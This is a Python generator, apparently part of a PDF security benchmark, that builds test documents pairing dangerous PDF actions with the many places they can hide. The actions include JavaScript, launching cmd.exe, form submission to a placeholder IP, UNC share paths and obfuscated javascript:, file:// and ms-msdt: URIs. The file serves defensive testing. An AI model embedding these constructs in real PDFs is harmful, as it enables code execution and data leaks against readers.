"""Actions that a reader's program must not take, in every place where one can stand or hide."""

import random
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from bench.korpus.dasar import annot

Action = Callable[[pikepdf.Pdf], Dictionary]
Place = Callable[[pikepdf.Pdf, Dictionary], None]
SCRIPT = "app.alert(1)"
WIDE = String(b"\xfe\xff" + SCRIPT.encode("utf-16-be"))


def _page(pdf: pikepdf.Pdf) -> Array:
    return Array([pdf.pages[0].obj, Name.Fit])


def _next(pdf: pikepdf.Pdf, steps: int) -> Dictionary:
    action = Dictionary(S=Name.JavaScript, JS=SCRIPT)
    for _ in range(steps):
        action = Dictionary(S=Name.GoTo, D=_page(pdf), Next=action)
    return action


def _file(**keys) -> Dictionary:
    return Dictionary(F="jalankan.exe", UF="jalankan.exe", **keys)


# What is asked for.
ACTIONS: dict[str, Action] = {
    "js": lambda pdf: Dictionary(S=Name.JavaScript, JS=SCRIPT),
    "js-lebar": lambda pdf: Dictionary(S=Name.JavaScript, JS=WIDE),
    "js-arus": lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode())),
    "js-tanpa-isi": lambda pdf: Dictionary(S=Name.JavaScript),
    "js-hanya-isi": lambda pdf: Dictionary(S=Name.Rendition, JS=SCRIPT, OP=0),
    "js-kemudian": lambda pdf: _next(pdf, 1),
    "js-jauh": lambda pdf: _next(pdf, 30),
    "js-cabang": lambda pdf: Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([_next(pdf, 2)])),
    "luncur": lambda pdf: Dictionary(S=Name.Launch, F="cmd.exe"),
    "luncur-berkas": lambda pdf: Dictionary(S=Name.Launch, F=_file()),
    "luncur-windows": lambda pdf: Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c x")),
    "kirim": lambda pdf: Dictionary(S=Name.SubmitForm, F="http://192.0.2.1/", Flags=4),
    "kirim-surel": lambda pdf: Dictionary(S=Name.SubmitForm, F="mailto:a@192.0.2.1"),
    "impor": lambda pdf: Dictionary(S=Name.ImportData, F="x.fdf"),
    "jauh": lambda pdf: Dictionary(S=Name.GoToR, F="\\\\192.0.2.1\\x.pdf", D=Array([0, Name.Fit])),
    "tertanam": lambda pdf: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="x.pdf")),
    "media": lambda pdf: Dictionary(S=Name.RichMediaExecute, CMD=Dictionary(C="lari")),
    "tampil": lambda pdf: Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR)),
    "film": lambda pdf: Dictionary(S=Name.Movie, T="x"),
    "suara": lambda pdf: Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"x", R=8000)),
    "3d": lambda pdf: Dictionary(S=Name.GoTo3DView, V=0),
    "tak-dikenal": lambda pdf: Dictionary(S=Name.TindakanBaru),
    "js-alamat": lambda pdf: Dictionary(S=Name.URI, URI="javascript:alert(1)"),
    "js-alamat-samar": lambda pdf: Dictionary(S=Name.URI, URI="\x01 jaVa\tscr\nipt:x"),
    "js-alamat-lebar": lambda pdf: Dictionary(
        S=Name.URI, URI=String(b"\xfe\xff" + "javascript:x".encode("utf-16-be"))
    ),
    "vbs-alamat": lambda pdf: Dictionary(S=Name.URI, URI="vbscript:x"),
    "data-alamat": lambda pdf: Dictionary(S=Name.URI, URI="data:text/html,<script>x</script>"),
    "berkas-alamat": lambda pdf: Dictionary(S=Name.URI, URI="file:///c:/windows/system32/calc.exe"),
    "berbagi-alamat": lambda pdf: Dictionary(S=Name.URI, URI="\\\\192.0.2.1\\c$\\x.lnk"),
    "program-alamat": lambda pdf: Dictionary(S=Name.URI, URI="ms-msdt:/id PCWDiagnostic"),
    "cari-alamat": lambda pdf: Dictionary(S=Name.URI, URI="search-ms:query=x&crumb=location:\\\\x"),
    "disk-alamat": lambda pdf: Dictionary(S=Name.URI, URI="C:\\x.exe"),
}  # fmt: skip
# Harmless where a person asks for it, not where it happens by itself.
BY_ITSELF: dict[str, Action] = {
    "buka-situs": lambda pdf: Dictionary(S=Name.URI, URI="https://192.0.2.1/?siapa"),
    "buka-situs-kemudian": lambda pdf: Dictionary(
        S=Name.GoTo, D=_page(pdf), Next=Dictionary(S=Name.URI, URI="https://192.0.2.1/")
    ),
    "kosongkan": lambda pdf: Dictionary(S=Name.ResetForm),
}  # fmt: skip


def _open(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = action


def _open_indirect(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(action)


def _by_catalogue(key: str) -> Place:
    def put(pdf: pikepdf.Pdf, action: Dictionary) -> None:
        pdf.Root.AA = pdf.make_indirect(Dictionary({f"/{key}": action}))

    return put


def _by_page(key: str) -> Place:
    def put(pdf: pikepdf.Pdf, action: Dictionary) -> None:
        pdf.pages[-1].AA = Dictionary({f"/{key}": pdf.make_indirect(action)})

    return put


def _by_annot(kind: str, key: str) -> Place:
    def put(pdf: pikepdf.Pdf, action: Dictionary) -> None:
        more = {"FT": Name.Btn, "T": "tombol"} if kind == "Widget" else {}
        made = annot(pdf, kind, **more)
        if key in ("A", "PA"):
            made[f"/{key}"] = action
        else:
            made.AA = Dictionary({f"/{key}": action})
        if kind == "Widget":
            pdf.Root.AcroForm = Dictionary(Fields=Array([made]))

    return put


def _by_field(key: str) -> Place:
    """A field whose action stands above its widgets."""

    def put(pdf: pikepdf.Pdf, action: Dictionary) -> None:
        kid = annot(pdf, "Widget")
        field = Dictionary(
            FT=Name.Tx, T="hitung", Kids=Array([kid]), AA=Dictionary({f"/{key}": action})
        )
        kid.Parent = pdf.make_indirect(field)
        pdf.Root.AcroForm = Dictionary(Fields=Array([kid.Parent]), CO=Array([kid.Parent]))

    return put


def _outline(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Bab", 0))
    first = pdf.Root.Outlines.First
    if "/Dest" in first:
        del first["/Dest"]
    first.A = action


def _names(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(action)]))
    )


def _names_deep(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    leaf = pdf.make_indirect(Dictionary(Limits=Array(["a", "a"]), Names=Array(["a", action])))
    node = pdf.make_indirect(Dictionary(Kids=Array([leaf])))
    pdf.Root.Names = pdf.make_indirect(Dictionary(JavaScript=Dictionary(Kids=Array([node]))))


def _array(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    """Deep inside arrays written directly, on a page of its own."""
    place: pikepdf.Object = Array([Dictionary(A=action)])
    for _ in range(20):
        place = Array([place])
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Subtype=Name.Link, X=place))])


OPENING = ("open", "open-tak-langsung")
PLACES: dict[str, Place] = {
    "open": _open,
    "open-tak-langsung": _open_indirect,
    **{f"katalog-{key}": _by_catalogue(key) for key in ("WC", "WS", "DS", "WP", "DP")},
    **{f"halaman-{key}": _by_page(key) for key in ("O", "C")},
    "tautan": _by_annot("Link", "A"),
    "tautan-PA": _by_annot("Link", "PA"),
    "tombol": _by_annot("Widget", "A"),
    **{f"catatan-{key}": _by_annot("Text", key) for key in ("E", "X", "D", "U", "PO", "PV", "PI")},
    **{f"tombol-{key}": _by_annot("Widget", key) for key in ("Fo", "Bl", "PC")},
    **{f"isian-{key}": _by_field(key) for key in ("K", "F", "V", "C")},
    "daftar-isi": _outline,
    "nama": _names,
    "nama-dalam": _names_deep,
    "larik": _array,
}  # fmt: skip
AUTOMATIC = [name for name in PLACES if name.startswith(("open", "katalog", "halaman", "catatan"))]


def pairs(rng: random.Random) -> list[tuple[str, Action, str, Place]]:
    """Every action in some place and every place with some action, and more of both."""
    found = {}
    for turn, (what, action) in enumerate(ACTIONS.items()):
        for step in range(6):
            where = list(PLACES)[(turn * 7 + step * 11) % len(PLACES)]
            found[what, where] = action, PLACES[where]
    for what, action in BY_ITSELF.items():
        for where in rng.sample(AUTOMATIC, 4):
            found[what, where] = action, PLACES[where]
    return [(what, action, where, place) for (what, where), (action, place) in found.items()]
